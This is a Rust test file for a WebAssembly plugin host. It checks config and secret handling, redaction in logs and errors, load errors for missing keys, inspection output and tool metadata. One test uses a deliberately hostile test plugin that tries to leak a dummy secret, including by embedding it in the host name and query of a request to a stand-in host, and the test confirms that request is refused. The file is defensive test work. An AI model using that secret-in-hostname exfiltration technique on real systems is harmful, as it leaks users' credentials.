//! Configuration and secrets (what a plugin sees, what never reaches a log or an error),
//! `inspect`, and tool metadata of a 0.2.0 plugin.

use super::*;
use crate::tests::capture::Capture;

/// Every event of threads without their own subscriber, for the whole test process:
/// wasmtime-wasi-http sends a request (and the host logs its refusal) on a thread a
/// test's `set_default` does not reach. Tests running in parallel log here too, so a
/// test looks only for what is its own.
fn global_capture() -> &'static Capture {
    static GLOBAL: std::sync::OnceLock<Capture> = std::sync::OnceLock::new();
    GLOBAL.get_or_init(|| {
        let capture = Capture::default();
        tracing::subscriber::set_global_default(
            tracing_subscriber::registry().with(capture.clone()),
        )
        .expect("no other global subscriber in this test process");
        capture
    })
}

const SECRETS: &str =
    "[config]\nkeys = [\"REGION\"]\n[config.SECRET]\ndescription = \"A token\"\nsecret = true\n";

#[tokio::test(flavor = "current_thread")]
async fn a_plugin_sees_exactly_its_config_and_its_secret_never_reaches_a_log_or_error() {
    let global = global_capture();
    let capture = Capture::default();
    let _guard =
        tracing::subscriber::set_default(tracing_subscriber::registry().with(capture.clone()));
    let operator = Operator {
        config: vec![
            "hostile_http.SECRET=hunter2-s3cr3t".into(),
            "hostile_http.REGION=eu-west".into(),
            "hostile_http.UNDECLARED=not-given".into(),
            "webfetch.SECRET=someone-elses".into(),
        ],
        ..Operator::default()
    };
    let (_dir, registry) = load("hostile_http", SECRETS, &operator);
    let registry = registry.unwrap();
    let env = call(&registry, "env", json!({})).await.unwrap();
    assert_eq!(
        env,
        json!({"REGION": "eu-west", "SECRET": "hunter2-s3cr3t"})
    );

    let result = call(&registry, "leak", json!({})).await;
    assert_eq!(
        result,
        Err(ToolError::Failed {
            tool: "leak".into(),
            message: "the error has [REDACTED]".into()
        })
    );
    // A secret put into a host name (and a query) of a refused request: the refusal's
    // log line and the error the model gets name the host with the secret redacted.
    let message = failed_message(
        call(
            &registry,
            "send",
            json!({"url": "http://hunter2-s3cr3t.denied.test/x?k=hunter2-s3cr3t"}),
        )
        .await,
    );
    assert_eq!(
        message,
        "the request to http://[REDACTED].denied.test was refused: this tool may only reach the hosts its plugin was granted; use a URL on one of those hosts"
    );
    let mut messages = capture.messages();
    messages.extend(global.messages());
    let all = messages.join("\n");
    assert!(!all.contains("hunter2"), "a secret reached the log:\n{all}");
    assert!(
        messages
            .iter()
            .any(|m| m.starts_with("HTTP request to http://[REDACTED].denied.test:80 refused: ")),
        "no refusal line in:\n{all}"
    );
    for line in [
        "stdout has [REDACTED]",
        "stderr has [REDACTED]",
        "log has [REDACTED]",
    ] {
        assert!(messages.iter().any(|m| m == line), "no {line:?} in:\n{all}");
    }
    assert!(
        messages.iter().any(|m| m == "config values given for hostile_http that its manifest does not declare are not passed to it: UNDECLARED"),
        "{all}"
    );
}

#[test]
fn a_missing_required_config_key_is_a_load_error_naming_it() {
    let (dir, loaded) = load(
        "hostile_http",
        SECRETS,
        &Operator {
            config: vec!["hostile_http.REGION=eu".into()],
            ..Operator::default()
        },
    );
    let err = loaded.expect_err("refused");
    assert_eq!(
        err.to_string(),
        format!("{}: the plugin needs the config key SECRET (A token) and no value was given; the plugin was not loaded. Give it with `--plugin-config hostile_http.SECRET=VALUE`, `--plugin-config-env hostile_http.SECRET=ENV_VAR` or in a --plugin-config-file ([hostile_http] SECRET = ...), or mark it `required = false` in the manifest", dir.path().join("hostile_http.toml").display())
    );
    assert_eq!(err.name(), "config_missing");
    // Optional keys may stay unset; the plugin then sees nothing for them.
    let optional = "[config.SECRET]\nsecret = true\nrequired = false\n";
    let (_dir, loaded) = load("hostile_http", optional, &Operator::default());
    assert!(loaded.is_ok(), "{:?}", loaded.err());
}

#[tokio::test]
async fn inspect_shows_hosts_and_config_keys_even_when_not_allowed_and_never_values() {
    let dir = tempfile::tempdir().unwrap();
    toolhost_tests::install(dir.path(), &["webfetch"]).unwrap();
    let operator = Operator {
        config: vec!["webfetch.API_TOKEN=tok-123".into()],
        ..Operator::default()
    };
    let host = PluginHost::new(operator.config()).unwrap();
    let info = host.inspect(&dir.path().join("webfetch.wasm")).unwrap();
    let hosts: Vec<String> = info.http.iter().map(ToString::to_string).collect();
    assert_eq!(hosts, ["example.com", "www.example.com"]);
    assert!(!info.http_allowed);
    let keys: Vec<(&str, bool, bool, bool)> = info
        .config
        .entries()
        .iter()
        .map(|e| {
            (
                e.key.name.as_str(),
                e.key.secret,
                e.key.required,
                e.value.is_some(),
            )
        })
        .collect();
    assert_eq!(
        keys,
        [
            ("API_TOKEN", true, false, true),
            ("USER_AGENT", false, false, false)
        ]
    );
    assert!(!format!("{info:?}").contains("tok-123"));
    // Built with the SDK, which targets world `rich-plugin` of 0.3.0.
    assert_eq!(
        info.exports,
        [
            "toolhost:plugin/resources@0.3.0",
            "toolhost:plugin/prompts@0.3.0",
            "toolhost:plugin/tools@0.3.0"
        ]
    );
    assert!(
        info.imports
            .iter()
            .any(|i| i.starts_with("wasi:http/outgoing-handler@0.2.")),
        "{:?}",
        info.imports
    );
}

#[tokio::test]
async fn tool_metadata_of_a_0_2_0_plugin_reaches_the_registry() {
    let (_dir, registry) = load("metadata", "", &Operator::default());
    let registry = registry.unwrap();
    let definitions = registry.definitions();
    let weather = definitions.iter().find(|d| d.name == "weather").unwrap();
    assert_eq!(weather.title.as_deref(), Some("Get weather"));
    assert_eq!(
        weather.annotations,
        toolhost::registry::ToolAnnotations {
            read_only_hint: Some(true),
            destructive_hint: None,
            idempotent_hint: Some(true),
            open_world_hint: Some(true),
        }
    );
    assert_eq!(
        weather.output_schema,
        Some(
            json!({"type":"object","properties":{"celsius":{"type":"number"}},"required":["celsius"]})
        )
    );
    let plain = definitions.iter().find(|d| d.name == "plain").unwrap();
    assert_eq!(
        (plain.title.as_ref(), plain.output_schema.as_ref()),
        (None, None)
    );
    assert!(plain.annotations.is_empty());
    assert_eq!(
        call(&registry, "weather", json!({})).await.unwrap(),
        json!({"celsius": 21.5})
    );

    // Through the SDK's builders on `Tool` (webfetch sets a title and two hints).
    let (_dir, registry) = load("webfetch", "", &Operator::default());
    let definitions = registry.unwrap().definitions();
    let fetch = definitions.iter().find(|d| d.name == "fetch").unwrap();
    assert_eq!(fetch.title.as_deref(), Some("Fetch a web page"));
    assert_eq!(
        fetch.annotations,
        toolhost::registry::ToolAnnotations {
            read_only_hint: Some(true),
            destructive_hint: None,
            idempotent_hint: None,
            open_world_hint: Some(true),
        }
    );
    assert_eq!(fetch.output_schema, None);
}
